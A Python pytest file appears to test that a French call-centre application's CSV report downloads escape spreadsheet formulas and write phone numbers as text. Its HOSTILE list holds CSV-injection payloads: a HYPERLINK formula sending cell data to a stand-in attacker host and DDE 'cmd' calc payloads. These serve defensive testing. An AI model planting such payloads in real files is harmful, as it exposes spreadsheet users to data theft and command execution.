"""CSV downloads never carry a formula: register text that a spreadsheet would run comes
out with a single quote before it, and phone numbers come out as text a French office
dials (``01 45 67 89 10``), not as ``+33…`` (a formula to a spreadsheet)."""

from __future__ import annotations

import csv
import io

import httpx
import pytest
import pytest_asyncio
from sqlalchemy import update

from dialer.storage import SessionFactory
from dialer.storage.database import transaction
from dialer.storage.models import Person
from tests.report_scene import Scene, build_scene
from tests.web.conftest import log_in
from tests.web.support import World

pytestmark = pytest.mark.asyncio

HOSTILE = (
    '=HYPERLINK("http://attaquant.example/?"&A1;"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
)


@pytest_asyncio.fixture
async def scene(sessions: SessionFactory, world: World) -> Scene:
    scene = await build_scene(sessions, people=12)
    async with transaction(sessions) as session:
        for index, person_id in enumerate(scene.people):
            hostile = HOSTILE[index % len(HOSTILE)]
            await session.execute(
                update(Person)
                .where(Person.id == person_id)
                .values(last_name=hostile, first_name=hostile, address=hostile)
            )
    return scene


async def test_the_never_reached_csv_holds_no_formula(
    client: httpx.AsyncClient, scene: Scene
) -> None:
    await log_in(client, "superviseur")
    response = await client.get(f"/rapports/{scene.campaign_id}/tableaux/jamais_joints.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, *lines = rows
    assert lines, "the scene has people nobody reached"
    names = {line[header.index("Nom")] for line in lines}
    assert names <= {"'" + text for text in HOSTILE}
    for line in lines:
        for cell in line:
            assert cell.lstrip(" ")[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    phones = lines[0][header.index("Téléphones")].split(" / ")
    assert phones[0] == "01 45 67 89 10"
    assert phones[1].startswith("06 ")
